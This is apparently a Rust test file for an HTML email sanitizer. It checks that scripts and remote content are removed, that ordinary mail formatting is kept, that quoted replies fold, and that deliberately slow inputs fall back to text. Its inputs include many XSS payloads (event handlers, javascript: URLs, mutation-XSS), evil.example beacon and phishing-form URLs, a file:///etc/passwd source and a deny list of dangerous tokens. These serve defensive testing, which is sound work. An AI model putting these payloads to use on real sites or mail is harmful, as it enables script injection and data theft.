use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

const WORDS: Words = Words { lang: "en", quoted: "Earlier mail", too_complex: "Shown as text" };

fn clean(html: &str) -> String {
    sanitize(html, BTreeMap::from([("logo@x".to_owned(), "/picture/1".to_owned())]), false)
}

fn shown(html: &str) -> String {
    document(html, None, None, BTreeMap::new(), false, WORDS)
}

#[test]
fn what_runs_or_sends_is_gone() {
    for hostile in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/p)}</style>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<a href='javascript:alert(1)'>x</a><a href='JaVaScRiPt:alert(1)'>x</a><a href=' java\nscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a>",
        "<a href='//evil.example'>x</a><a href='/logout'>x</a><a href='#top'>x</a>",
        "<div style='background:url(https://evil.example/p);background-image:url(https://evil.example/p)'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;behavior:url(x);-moz-binding:url(x)'>x</div>",
        "<div style='width:expression(alert(1));color:url(https://evil.example/p)'>x</div>",
        "<div style='color:\\75rl(https://evil.example/p);color:u\\72 l(https://evil.example/p)'>x</div>",
        "<div style='color:image-set(\"https://evil.example/p\" 1x);color:-rgb(url(https://evil.example/p))'>x</div>",
        "<table background=https://evil.example/p><td background=https://evil.example/p>x</table>",
        "<img srcset='https://evil.example/p 2x' src='https://evil.example/p' lowsrc=https://evil.example/p>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,PHN2Zz4='>",
        "<video src=https://evil.example poster=https://evil.example/p></video><audio src=https://evil.example>",
        "<input type=image src=https://evil.example/p><isindex action=javascript:alert(1)>",
        "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
        "<div id=main class='shell' name=x data-boot='{}' onclick=alert(1) tabindex=1 contenteditable>x</div>",
    ] {
        let clean = clean(hostile).to_lowercase();
        for bad in [
            "<script",
            "<svg",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<button",
            "<meta",
            "<base",
            "<link",
            "<style",
            "<template",
            "<video",
            "<audio",
            "<math",
            "onerror",
            "onload",
            "onclick",
            "javascript:",
            "vbscript",
            "evil.example",
            "expression",
            "behavior",
            "binding",
            "position",
            "url(",
            "svg+xml",
            "text/html",
            " id=",
            " class=\"shell",
            "data-boot",
            "srcset",
            "/logout",
            "contenteditable",
            "tabindex",
            "<!--",
        ] {
            // Text is text: only markup counts.
            assert!(!clean.contains(bad), "{bad:?} is left of {hostile:?}: {clean}");
        }
    }
}

#[test]
fn what_mail_is_made_of_stays() {
    let html = "<table width=600 bgcolor=#ffffff><tr><td align=center style='color:red;font-size:12px;background-color: rgb(1, 2, 3)'>\
        <font face=Arial>Hello <b>Ann</b></font><br><a href='https://shop.example/?a=1&b=2'>shop</a> \
        <a href=mailto:us@x.example>us</a></td></tr></table>";
    let clean = clean(html);
    for kept in [
        "<table width=\"600\"",
        "align=\"center\"",
        "color:red",
        "font-size:12px",
        "rgb(1, 2, 3)",
        "<b>Ann</b>",
        "mailto:us@x.example",
    ] {
        assert!(clean.contains(kept), "{kept}: {clean}");
    }
    assert!(clean.contains("https://shop.example/?a=1&amp;b=2"));
    assert_eq!(clean.matches("target=\"_blank\"").count(), 2);
    assert_eq!(clean.matches("rel=\"noopener noreferrer\"").count(), 2);
}

#[test]
fn pictures_that_came_along_are_shown_and_those_of_others_when_asked() {
    let html = "<img src='cid:logo@x'><img src='CID:logo%40x'><img src='cid:other'><img src='data:image/png;base64,AA=='>\
        <img src='http://a.example/p?x=1'><img src='https://b.example/p'><img src='/admin'><img src='file:///etc/passwd'>";
    assert!(has_remote_images(html));
    let clean = clean(html);
    assert_eq!(clean.matches("/picture/1").count(), 2, "{clean}");
    assert!(clean.contains("data:image/png;base64,AA==") && !clean.contains(".example") && !clean.contains("/admin"));
    let asked = sanitize(html, BTreeMap::new(), true);
    assert!(asked.contains("https://a.example/p?x=1") && asked.contains("https://b.example/p"), "{asked}");
    assert!(!asked.contains("http://") && !asked.contains("/admin") && !asked.contains("file:"), "{asked}");
    assert!(!has_remote_images("<p>https://a.example <image src=https://x> <img src='cid:a'><a href=https://b>"));
}

#[test]
fn the_outermost_quote_is_folded() {
    let html = "<p>New words</p><div class='gmail_quote other'>On Monday Ann wrote:<blockquote>Old<blockquote>Older</blockquote>\
        </blockquote></div>";
    let shown = shown(html);
    assert_eq!(
        shown
            .matches("<details class=\"quoted\"><summary lang=\"en\">Earlier mail</summary><div class=\"gmail_quote\">")
            .count(),
        1
    );
    assert_eq!((shown.matches("<details").count(), shown.matches("</details>").count()), (1, 1), "{shown}");
    assert!(shown.contains("</blockquote></div></details>"));
}

#[test]
fn the_language_of_the_mail_is_not_that_of_the_reader() {
    let told = |language| super::document("<p>Guten Tag", None, language, BTreeMap::new(), false, WORDS);
    assert!(
        told(Some("de")).contains("<html lang=\"en\">") && told(Some("de")).contains("<div lang=\"de\" dir=\"auto\">")
    );
    assert!(told(None).contains("<div lang=\"\" dir=\"auto\">"), "unknown is not the reader's");
}

#[test]
fn a_mail_that_only_quotes_shows_what_it_quotes() {
    let only = shown("<div>&nbsp;<br></div><blockquote type=cite>All there is</blockquote>");
    assert!(only.contains("<details class=\"quoted\" open>"), "{only}");
    let both = shown("<div>Mine</div><blockquote type=cite>Theirs</blockquote>");
    assert!(both.contains("<details class=\"quoted\"><summary lang=\"en\">"), "{both}");
}

#[test]
fn indented_paragraphs_are_no_quotes() {
    let html = "<p>a</p><blockquote style='margin:0 0 0 40px;border:none;padding:0px'>indented</blockquote>";
    assert!(!shown(html).contains("<details"), "{}", shown(html));
}

#[test]
fn the_title_is_text() {
    let document = document("<p>x", Some("</title><script>alert(1)</script>"), None, BTreeMap::new(), false, WORDS);
    assert!(document.contains("<title>&lt;/title&gt;&lt;script&gt;"));
}

#[test]
fn mail_made_to_take_long_is_shown_as_text_soon() {
    let mut attributes = String::from("<p>Hello</p><div");
    for number in 0..200_000 {
        let _written = write!(attributes, " a{number}");
    }
    let nested = "<div>".repeat(300_000);
    let fonts: String = (0..3_000).map(|number| format!("<font color={number}>")).collect();
    let copies = fonts.replace('>', "><p>");
    for (hostile, what) in [
        (format!("<p>Hello</p>{nested}"), "nesting"),
        (format!("{attributes}>x</div>"), "attributes"),
        (attributes.clone(), "attributes of a cut tag"),
        (format!("{attributes} x=\""), "attributes of a tag that is cut inside a value"),
        (format!("<p>Hello</p>{}", "<b><i>".repeat(60_000)), "formatting"),
        (format!("<p>Hello</p>{copies}"), "formatting that goes on in every paragraph"),
        (format!("<p>Hello</p>{}{fonts}{}x", "<div>".repeat(3_000), "</div>x".repeat(3_000)), "in every block"),
        (format!("<p>Hello</p>{}{}", "<span>".repeat(10_000), "</q>".repeat(100_000)), "end tags that fit nothing"),
        (format!("<p>Hello</p>{}", "x ".repeat(MAX_BYTES)), "length"),
    ] {
        let began = Instant::now();
        let shown = shown(&hostile);
        assert!(shown.contains("Shown as text") && shown.contains("Hello"), "{what}");
        assert!(began.elapsed() < Duration::from_secs(20), "{what} took {:?}", began.elapsed());
    }
    let deep = format!("{}Hello", "<div><span><b>".repeat(3_000));
    assert!(shown(&deep).contains("Hello"));
}

#[test]
fn a_style_longer_than_anybody_writes_is_dropped() {
    let long = format!("<p style=\"color:red;width:{}\">Hello</p>", "calc(".repeat(MAX_STYLE / 5));
    assert_eq!(clean(&long), "<p>Hello</p>");
    let fitting = format!("<p style=\"color:red;width:{}\">Hello</p>", "calc(".repeat(MAX_STYLE / 10));
    assert!(clean(&fitting).starts_with("<p style=\"color:red"), "{}", clean(&fitting));
}

#[test]
fn sloppy_mail_is_still_shown() {
    // What old programs write: nothing is closed.
    let table = format!("<table>{}</table>", "<tr><td><font color=red>cell<p>text<br>".repeat(100));
    let list = "<p>paragraph<li>item<b>bold</b>".repeat(1_000);
    for html in [table, list] {
        assert!(!shown(&html).contains("Shown as text"));
    }
}

/// The rule as it reads: every function of a declaration is a known one, and nothing in front of it is escaped.
fn calls_only_known_functions(declaration: &str) -> bool {
    declaration.match_indices('(').all(|(at, _)| {
        let before = &declaration[..at];
        let start = before.rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let known = |name: &&str| before.get(start..).is_some_and(|word| word.eq_ignore_ascii_case(name));
        !before.contains('\\') && ["calc", "hsl", "hsla", "rgb", "rgba"].iter().any(known)
    })
}

proptest! {
    #[test]
    fn styles_keep_what_the_rule_says(
        pieces in prop::collection::vec(prop_oneof![
            Just("calc(".to_owned()), Just("RGB(".to_owned()), Just("url(".to_owned()), Just("xrgba(".to_owned()), Just("(".to_owned()),
            Just(")".to_owned()), Just(";".to_owned()), Just("\\".to_owned()), Just("color:".to_owned()), "[a-zé -]{0,4}",
        ], 0..20)
    ) {
        let style = pieces.concat();
        let kept: Vec<&str> = style.split(';').filter(|declaration| calls_only_known_functions(declaration)).collect();
        prop_assert_eq!(without_functions(&style), Some(kept.join(";")));
    }

    #[test]
    fn nothing_that_runs_comes_out_of_anything(
        pieces in prop::collection::vec(prop_oneof![
            Just("<svg>".to_owned()), Just("<math>".to_owned()), Just("<style>".to_owned()), Just("</style>".to_owned()),
            Just("<script>".to_owned()), Just("</script>".to_owned()), Just("<img src=x onerror=a>".to_owned()),
            Just("<table>".to_owned()), Just("<td>".to_owned()), Just("<a href=javascript:a>".to_owned()),
            Just("<!--".to_owned()), Just("-->".to_owned()), Just("<title>".to_owned()), Just("</title>".to_owned()),
            Just("<blockquote>".to_owned()), Just("</blockquote>".to_owned()), Just("<div class=gmail_quote>".to_owned()),
            Just("</div>".to_owned()), Just("<noscript>".to_owned()), Just("<textarea>".to_owned()),
            Just("<form action=x>".to_owned()), Just("<p title=\"".to_owned()), Just("\">".to_owned()), "[a-z<>/='\" ]{0,8}",
        ], 0..40)
    ) {
        let document = shown(&pieces.concat());
        let body = &document[document.find("<body>").expect("a body")..];
        // Tags alone: in a text or a quoted value anything may stand.
        let settings = Settings::new().append_element_content_handler(element!("*", |element| {
            let name = element.tag_name();
            let known = ELEMENTS.contains(&name.as_str()) || ["body", "html", "details", "summary"].contains(&name.as_str());
            let bad = element.attributes().iter().any(|attribute| {
                attribute.name().starts_with("on") || attribute.value().trim_start().starts_with("javascript:")
            });
            if known && !bad { Ok(()) } else { Err(format!("<{name}>").into()) }
        })).with_strict(false);
        let mut rewriter = HtmlRewriter::new(settings, |_: &[u8]| {});
        prop_assert!(rewriter.write(body.as_bytes()).and_then(|()| rewriter.end()).is_ok(), "{body}");
        prop_assert_eq!(body.matches("<details").count(), body.matches("</details>").count());
    }
}
